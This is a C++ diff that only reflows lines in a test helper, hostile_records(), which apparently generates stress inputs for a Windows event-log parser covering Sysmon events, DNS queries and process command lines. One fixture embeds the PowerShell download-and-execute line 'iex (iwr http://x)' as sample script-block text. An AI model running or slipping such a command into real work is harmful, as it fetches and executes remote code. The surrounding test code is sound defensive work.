@@ -257,17 +257,14 @@ std::vector<HostileRecord> hostile_records() {
           [=](std::size_t n) { return connection(name, in_json(piece, n)); });
     }
   }
-  add(out, "QueryName of labels",
-      [](std::size_t n) { return query(in_json("a.", n), "-"); });
-  add(out, "QueryResults of addresses", [](std::size_t n) {
-    return query("a.example", in_json("type:  5 a.b;::ffff:1.2.3.4;", n));
-  });
+  add(out, "QueryName of labels", [](std::size_t n) { return query(in_json("a.", n), "-"); });
+  add(out, "QueryResults of addresses",
+      [](std::size_t n) { return query("a.example", in_json("type:  5 a.b;::ffff:1.2.3.4;", n)); });
   for (const std::string_view program : kPrograms) {
     for (const std::string_view piece : kInCommandLines) {
       add(out, std::string(program.substr(program.rfind('\\') + 1)) + " " + std::string(piece),
           [=](std::size_t n) {
-            return process(std::string(program),
-                           std::string(program) + " /c " + in_json(piece, n));
+            return process(std::string(program), std::string(program) + " /c " + in_json(piece, n));
           });
     }
   }
@@ -291,8 +288,7 @@ std::vector<HostileRecord> hostile_records() {
     add(out, "strict XML of " + std::string(piece),
         [piece](std::size_t n) { return event_xml("<!-- -->" + repeated(piece, n - 512)); });
     add(out, "EventData as XML of " + std::string(piece), [piece](std::size_t n) {
-      return json(3, kSysmon,
-                  {{"EventData", "<EventData>" + in_json(piece, n) + "</EventData>"}});
+      return json(3, kSysmon, {{"EventData", "<EventData>" + in_json(piece, n) + "</EventData>"}});
     });
   }
   for (const std::string_view piece : kInJson) {
@@ -379,8 +375,7 @@ std::vector<HostileRecord> hostile_records() {
     });
   }
   add(out, "script block", [](std::size_t n) {
-    return json(4104, "x/PowerShell",
-                {{"ScriptBlockText", in_json("iex (iwr http://x) ", n)}});
+    return json(4104, "x/PowerShell", {{"ScriptBlockText", in_json("iex (iwr http://x) ", n)}});
   });
   add(out, "a number of digits", [](std::size_t n) {
     return R"({"EventID":3,"Image":"a","UtcTime":"2026-03-02 08:00:00","EventRecordID":)" +
